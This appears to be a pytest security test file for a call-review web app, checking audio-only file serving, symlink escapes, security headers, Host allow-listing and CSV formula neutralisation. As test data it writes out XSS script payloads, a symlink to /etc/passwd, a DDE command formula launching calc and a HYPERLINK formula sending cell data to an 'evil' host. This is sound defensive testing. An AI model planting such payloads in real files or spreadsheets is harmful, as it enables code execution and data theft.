"""Issue 10: what the review app serves and to whom. Audio only (by content, not by name),
never through a link out of the roots; security headers on every answer; loopback Host names
only (DNS rebinding); roles; login backoff."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from callqa.store.db import default_url, open_store
from callqa.store.write import save_record
from callqa.web.app import ServeConfig, create_app
from callqa.web.security import CONTENT_SECURITY_POLICY
from test_web import BASE, make_record


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict:
    """Records naming an HTML page, an SVG and a symlink to /etc/passwd, each called .wav or not."""
    base = tmp_path_factory.mktemp("hostile")
    recordings = base / "recordings"
    recordings.mkdir()
    (recordings / "page.html").write_text("<html><script>alert(document.cookie)</script></html>")
    (recordings / "page.wav").write_text("<html><script>alert(document.cookie)</script></html>")
    (recordings / "image.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
    (recordings / "passwd.wav").symlink_to("/etc/passwd")
    import numpy as np
    import soundfile as sf

    sf.write(recordings / "real.flac", np.zeros(800, dtype=np.float32), 8000)
    (recordings / "real.mp3").write_bytes(b"ID3\x04\x00" + b"\x00" * 100)
    url = default_url(base)
    store = open_store(url)
    with store.session() as session:
        for call_id, name in [("html", "page.html"), ("htmlwav", "page.wav"), ("svg", "image.svg"), ("passwd", "passwd.wav"),
                              ("flac", "real.flac"), ("mp3", "real.mp3")]:
            save_record(session, make_record(call_id, recordings / name, "Ann", "2026-11-02"))
    store.close()
    return {"url": url, "recordings": recordings}


@pytest.fixture(scope="module")
def default_client(hostile: dict) -> TestClient:
    # No --recordings-root: the roots come from the records (the loopback default).
    return TestClient(create_app(ServeConfig(hostile["url"])), base_url=BASE)


@pytest.mark.parametrize("call_id", ["html", "htmlwav", "svg"])
def test_non_audio_files_are_415(default_client: TestClient, call_id: str) -> None:
    response = default_client.get(f"/calls/{call_id}/audio")
    assert response.status_code == 415
    assert b"<script>" not in response.content
    assert response.headers["content-type"].startswith("text/plain")


def test_a_symlink_out_of_the_folder_is_not_followed(default_client: TestClient) -> None:
    assert Path("/etc") not in default_client.app.state.callqa.roots
    response = default_client.get("/calls/passwd/audio")
    assert response.status_code == 403
    assert b"root:" not in response.content


@pytest.mark.parametrize(("call_id", "kind"), [("flac", "audio/flac"), ("mp3", "audio/mpeg")])
def test_audio_is_served_with_the_type_of_its_content(default_client: TestClient, call_id: str, kind: str) -> None:
    response = default_client.get(f"/calls/{call_id}/audio")
    assert response.status_code == 200 and response.headers["content-type"] == kind


@pytest.mark.parametrize("path", ["/calls", "/calls/flac", "/calls/flac/audio", "/calls/html/audio", "/static/app.css", "/static/app.js", "/nope", "/agents", "/disclosures.csv"])
def test_every_response_carries_the_security_headers(default_client: TestClient, path: str) -> None:
    response = default_client.get(path)
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["x-frame-options"] == "DENY"
    assert response.headers["content-security-policy"] == CONTENT_SECURITY_POLICY
    assert "unsafe-inline" not in CONTENT_SECURITY_POLICY and "frame-ancestors 'none'" in CONTENT_SECURITY_POLICY


def test_pages_need_no_inline_script_or_style(default_client: TestClient) -> None:
    for path in ["/calls", "/calls/flac", "/disclosures", "/agents"]:
        html = default_client.get(path).text
        assert "style=" not in html and "<script>" not in html and " onclick=" not in html, path


@pytest.mark.parametrize("host", ["evil.example", "attacker.test:8000", "127.0.0.1.nip.io", "192.168.1.10"])
def test_other_host_names_are_refused(hostile: dict, host: str) -> None:
    client = TestClient(create_app(ServeConfig(hostile["url"])), base_url=BASE)
    response = client.get("/calls", headers={"Host": host})
    assert response.status_code == 400
    assert response.headers["x-frame-options"] == "DENY"


@pytest.mark.parametrize("host", ["127.0.0.1:8000", "localhost", "localhost:8000", "[::1]:8000"])
def test_loopback_host_names_are_accepted(hostile: dict, host: str) -> None:
    client = TestClient(create_app(ServeConfig(hostile["url"])), base_url=BASE)
    assert client.get("/calls", headers={"Host": host}).status_code == 200


def test_configured_host_names_are_accepted(hostile: dict) -> None:
    client = TestClient(create_app(ServeConfig(hostile["url"], allowed_hosts=("qa.example.com",))), base_url=BASE)
    assert client.get("/calls", headers={"Host": "qa.example.com"}).status_code == 200
    assert client.get("/calls", headers={"Host": "evil.example.com"}).status_code == 400


# --- CSV formula injection -------------------------------------------------------------------

@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+33 1 23", "'+33 1 23"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("plain", "plain"), ("a=b", "a=b"), (-3.5, -3.5), (None, None), ("", ""),
])
def test_safe_cell(value: object, expected: object) -> None:
    from callqa.csvsafe import safe_cell

    assert safe_cell(value) == expected


def test_disclosure_csv_neutralises_formulas(tmp_path: Path) -> None:
    import csv
    import io

    import numpy as np
    import soundfile as sf

    audio = tmp_path / "a.wav"
    sf.write(audio, np.zeros(800, dtype=np.float32), 8000)
    record = make_record("=cmd|' /C calc'!A0", audio, "@agent", "2026-11-02")
    record["offers"][0]["product"] = "+device protection"
    record["offers"][0]["disclosures"]["price"]["evidence"]["quote"] = '=HYPERLINK("http://evil/?"&A1)'
    url = default_url(tmp_path)
    store = open_store(url)
    with store.session() as session:
        save_record(session, record)
    store.close()
    client = TestClient(create_app(ServeConfig(url, (tmp_path,))), base_url=BASE)
    client.post(f"/calls/{record['call_id']}/decisions", data={"target_kind": "flag", "target_key": "CONTINUED_AFTER_DECLINE:offer-1",
                                                             "decision": "confirm", "note": "-1+1", "reviewer": "x"})
    body = client.get("/disclosures.csv").text
    rows = list(csv.reader(io.StringIO(body)))
    cells = [c for row in rows[1:] for c in row]
    assert cells, body
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
    assert "'=HYPERLINK(\"http://evil/?\"&A1)" in cells and "'@agent" in cells and "'+device protection" in cells
